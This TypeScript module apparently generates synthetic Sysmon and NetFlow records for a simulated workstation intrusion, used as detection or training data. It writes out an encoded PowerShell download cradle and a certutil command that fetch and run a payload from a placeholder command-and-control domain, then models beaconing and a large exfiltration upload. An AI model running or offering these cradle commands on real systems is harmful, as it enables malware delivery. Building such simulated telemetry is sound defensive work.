/**
 * The second half on the workstation: the download cradle and the dropped payload (Sysmon),
 * then the payload's beaconing to its command-and-control domain, and the bulk upload.
 */
import { windowsImage } from '../catalog/windows-programs.js';
import { Prng } from '../prng.js';
import { flowRecord } from '../sources/netflow.js';
import { sysmonProcessCreateRecord, type WindowsImage } from '../sources/sysmon.js';
import { EDGE_EXPORTER } from '../normal/network-activity.js';
import { AD_DOMAIN } from '../world.js';
import { workstationLookup, type StoryWriter } from './intrusion.js';
import type { StoryStep } from './steps.js';

export const BEACON_PERIOD_MS = 60_000;
export const BEACON_JITTER_MS = 1_500;
export const BEACON_COUNT = 70;
export const UPLOAD_SLICES = 8;

/** The payload has no version resource: Sysmon prints '-' for each field. */
function droppedImage(path: string): WindowsImage {
  const rng = new Prng(path, 'payload-hash');
  const sha256 = rng.hexUpper(64);
  return {
    path,
    file_version: '-',
    description: '-',
    product: '-',
    company: '-',
    original_file_name: '-',
    hashes: `MD5=${rng.hexUpper(32)},SHA256=${sha256},IMPHASH=${rng.hexUpper(32)}`,
    sha256,
  };
}

function pid(w: StoryWriter): number {
  return 4 * w.ctx.rng.range(100, 16000);
}

function flowFromC2(w: StoryWriter, step: StoryStep, ts: number, port: number, bytes: number): void {
  const ws = w.cast.victim.workstation;
  w.add(step, flowRecord(w.ctx, {
    ts, duration_ms: w.ctx.rng.range(300, 1400), src_ip: w.cast.c2_ip, src_port: port, dst_ip: ws.ip, dst_port: w.ctx.rng.range(49152, 65535),
    transport: 'tcp', bytes, packets: 3 + Math.ceil(bytes / 1400), direction: 'inbound', host: ws.name, exporter: EDGE_EXPORTER, end_reason: 3,
  }));
}

/** Encoded PowerShell cradle → certutil download into Temp → the payload runs. Returns the payload's start time. */
export function runPayload(w: StoryWriter, start_ms: number, rdp_logon_id: string): number {
  const { victim, c2_domain, c2_ip } = w.cast;
  const ws = victim.workstation;
  const home = `C:\\Users\\${victim.name}\\`;
  const dropped = `${home}AppData\\Local\\Temp\\msupdate.exe`;
  const explorer = windowsImage('explorer', victim.name);
  const powershell = windowsImage('powershell', victim.name);
  const certutil = windowsImage('certutil', victim.name);
  const cradle = `IEX (New-Object Net.WebClient).DownloadString('http://${c2_domain}/s')`;
  const psCommand = `"${powershell.path}" -nop -w hidden -enc ${Buffer.from(cradle, 'utf16le').toString('base64')}`;
  const psPid = pid(w);
  const psGuid = w.ctx.rng.windowsGuid();
  // The RDP session has its own logon and its own explorer.exe.
  const common = {
    logon_guid: w.ctx.rng.windowsGuid(),
    record_id: 0,
    computer: ws.name,
    user_domain: AD_DOMAIN,
    user_name: victim.name,
    logon_id: rdp_logon_id,
    // Session 2: the RDP session, not the owner's console session 1.
    terminal_session_id: 2,
    integrity_level: 'Medium' as const,
  };

  w.add('suspicious_process', sysmonProcessCreateRecord(w.ctx, {
    ...common, ts: start_ms, image: powershell, command_line: psCommand, current_directory: home,
    pid: psPid, process_guid: psGuid, parent_image: explorer, parent_command_line: 'C:\\Windows\\Explorer.EXE', parent_pid: pid(w), parent_guid: w.ctx.rng.windowsGuid(),
  }));
  workstationLookup(w, 'suspicious_process', start_ms + 900, c2_domain, c2_ip);
  flowFromC2(w, 'suspicious_process', start_ms + 2_100, 80, w.ctx.rng.range(4_000, 8_000));

  const certutilAt = start_ms + 40_000;
  w.add('suspicious_process', sysmonProcessCreateRecord(w.ctx, {
    ...common, ts: certutilAt, image: certutil,
    command_line: `certutil.exe -urlcache -split -f http://${c2_domain}/a/update.bin ${dropped}`,
    current_directory: home, pid: pid(w), parent_image: powershell, parent_command_line: psCommand, parent_pid: psPid, parent_guid: psGuid,
  }));
  flowFromC2(w, 'suspicious_process', certutilAt + 1_600, 80, w.ctx.rng.range(350_000, 420_000));

  const payloadAt = start_ms + 55_000;
  w.add('suspicious_process', sysmonProcessCreateRecord(w.ctx, {
    ...common, ts: payloadAt, image: droppedImage(dropped), command_line: `"${dropped}"`,
    current_directory: home, pid: pid(w), parent_image: powershell, parent_command_line: psCommand, parent_pid: psPid, parent_guid: psGuid,
  }));
  return payloadAt;
}

/** One DNS lookup and one HTTPS exchange (a flow each way) per period. Returns the beacon times. */
export function beacon(w: StoryWriter, start_ms: number): number[] {
  const { rng } = w.ctx;
  const { victim, c2_domain, c2_ip } = w.cast;
  const ws = victim.workstation;
  const times: number[] = [];
  for (let k = 0; k < BEACON_COUNT; k++) {
    const t = start_ms + k * BEACON_PERIOD_MS + rng.range(-BEACON_JITTER_MS, BEACON_JITTER_MS);
    times.push(t);
    workstationLookup(w, 'c2_beaconing', t, c2_domain, c2_ip);
    const end = t + rng.range(350, 600);
    const port = rng.range(49152, 65535);
    const out = rng.range(620, 940);
    w.add('c2_beaconing', flowRecord(w.ctx, {
      ts: end, duration_ms: end - t - 30, src_ip: ws.ip, src_port: port, dst_ip: c2_ip, dst_port: 443,
      transport: 'tcp', bytes: out, packets: rng.range(7, 9), direction: 'outbound', host: ws.name, exporter: EDGE_EXPORTER, end_reason: 3,
    }));
    const back = rng.range(280, 1_900);
    w.add('c2_beaconing', flowRecord(w.ctx, {
      ts: end, duration_ms: end - t - 30, src_ip: c2_ip, src_port: 443, dst_ip: ws.ip, dst_port: port,
      transport: 'tcp', bytes: back, packets: rng.range(5, 7), direction: 'inbound', host: ws.name, exporter: EDGE_EXPORTER, end_reason: 3,
    }));
  }
  return times;
}

/** One long TLS upload, exported as 60-second active-timeout slices. Returns the upload's end time. */
export function upload(w: StoryWriter, start_ms: number): number {
  const { rng } = w.ctx;
  const { victim, exfil_domain, exfil_ip } = w.cast;
  const ws = victim.workstation;
  workstationLookup(w, 'large_upload', start_ms, exfil_domain, exfil_ip);
  const port = rng.range(49152, 65535);
  const connected = start_ms + 120;
  let end = connected;
  for (let k = 0; k < UPLOAD_SLICES; k++) {
    const last = k === UPLOAD_SLICES - 1;
    const sliceStart = end;
    end = last ? sliceStart + rng.range(20_000, 50_000) : sliceStart + 60_000;
    const bytes = last ? rng.range(60_000_000, 120_000_000) : rng.range(205_000_000, 225_000_000);
    w.add('large_upload', flowRecord(w.ctx, {
      ts: end, duration_ms: end - sliceStart, src_ip: ws.ip, src_port: port, dst_ip: exfil_ip, dst_port: 443,
      transport: 'tcp', bytes, packets: Math.ceil(bytes / 1448), direction: 'outbound', host: ws.name, exporter: EDGE_EXPORTER,
      end_reason: last ? 3 : 2,
    }));
  }
  return end;
}
